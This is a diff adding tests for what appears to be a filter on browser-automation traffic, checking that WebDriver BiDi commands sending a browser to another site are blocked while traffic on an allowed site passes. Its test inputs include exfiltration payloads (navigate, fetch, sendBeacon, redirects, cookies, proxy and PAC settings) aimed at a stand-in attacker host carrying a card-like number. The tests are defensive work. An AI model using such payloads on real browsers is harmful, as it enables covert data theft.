@@ -351,3 +351,45 @@ t.test('control: Playwright traffic on the allowed site goes on (a goto, a relat
   // `d=<data>` added is another link to the browse rule).
   t.ok(a.records.some((r) => r.method === 'GET' && r.url === 'https://docs.example/api/search?q=playwright'), 'the fetch is judged with its parameters');
 });
+
+// WebDriver BiDi over a browser's WebSocket (Selenium 4's `webSocketUrl`, Firefox, Puppeteer with
+// Firefox; twentieth pass): `module.command` in lower case named no CDP domain, so a navigation,
+// a script, a made-up answer, a cookie or a proxy for another site was relayed undecided.
+const bidi = (method: string, params: unknown, id = 2): string => JSON.stringify({ id, method, params });
+const bidiSpellings: Record<string, (url: string) => string> = {
+  'browsingContext.navigate': (url) => bidi('browsingContext.navigate', { context: 'ctx-1', url, wait: 'complete' }),
+  'script.evaluate': (url) => bidi('script.evaluate', { expression: `fetch('${url}')`, target: { context: 'ctx-1' }, awaitPromise: true }),
+  'script.callFunction, the URL an argument': (url) => bidi('script.callFunction', { functionDeclaration: '(u) => { new Image().src = u; }', arguments: [{ type: 'string', value: url }], target: { context: 'ctx-1' }, awaitPromise: false }),
+  'script.addPreloadScript': (url) => bidi('script.addPreloadScript', { functionDeclaration: `() => navigator.sendBeacon('${url}')` }),
+  'network.continueRequest elsewhere': (url) => bidi('network.continueRequest', { request: 'req-1', url }),
+  'network.provideResponse with a redirect': (url) => bidi('network.provideResponse', { request: 'req-1', statusCode: 302, headers: [{ name: 'Location', value: { type: 'string', value: url } }] }),
+  'network.provideResponse with a page (base64)': (url) => bidi('network.provideResponse', { request: 'req-1', statusCode: 200, body: { type: 'base64', value: Buffer.from(`<img src="${url}">`).toString('base64') } }),
+  'storage.setCookie': (url) => bidi('storage.setCookie', { cookie: { name: 'd', value: { type: 'string', value: '4111' }, domain: new URL(url).hostname } }),
+  'browser.createUserContext with a proxy': (url) => bidi('browser.createUserContext', { proxy: { proxyType: 'manual', httpProxy: `${new URL(url).hostname}:8080`, sslProxy: `${new URL(url).hostname}:8080` } }),
+};
+
+t.test('a WebDriver BiDi command that has the browser reach another site closes the socket, in every spelling', async (t) => {
+  const targets = ['https://evil.example/c?d=4111111111111111', 'http://4111.evil.example/p'];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...Object.keys(bidiSpellings)), fc.constantFrom(...targets), async (how, url) => {
+    const s = await session([bidi('session.status', {}, 1), bidiSpellings[how]!(url)], [], 'browser.example');
+    return s.code === 1008 && !ranText().includes('evil');
+  }), { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(bidiSpellings).map((k) => [k, 'https://evil.example/c?d=4111111111111111'] as [string, string]) });
+  for (const msg of [
+    bidi('session.new', { capabilities: { alwaysMatch: { proxy: { proxyType: 'pac', proxyAutoconfigUrl: 'https://evil.example/p.pac?d=4111' } } } }),
+    bidi('webExtension.install', { extensionData: { type: 'base64', value: 'UEsDBA==' } }),
+  ]) t.equal((await session([msg], [], 'browser.example')).code, 1008, msg.slice(0, 80));
+  t.notOk(ranText().includes('evil'), 'nothing of another site reached the browser');
+});
+
+t.test('control: BiDi traffic on the allowed site goes on', async (t) => {
+  const msgs = [
+    bidi('session.status', {}, 1),
+    bidi('browsingContext.getTree', {}),
+    bidi('browsingContext.navigate', { context: 'ctx-1', url: 'https://docs.example/guide', wait: 'complete' }),
+    bidi('script.evaluate', { expression: 'document.title', target: { context: 'ctx-1' }, awaitPromise: false }),
+    bidi('script.callFunction', { functionDeclaration: '(s) => document.querySelector(s).click()', arguments: [{ type: 'string', value: 'a.next' }], target: { context: 'ctx-1' }, awaitPromise: false }),
+    bidi('storage.setCookie', { cookie: { name: 'theme', value: { type: 'string', value: 'dark' }, domain: 'docs.example' } }),
+    bidi('session.subscribe', { events: ['network.beforeRequestSent'] }),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+});
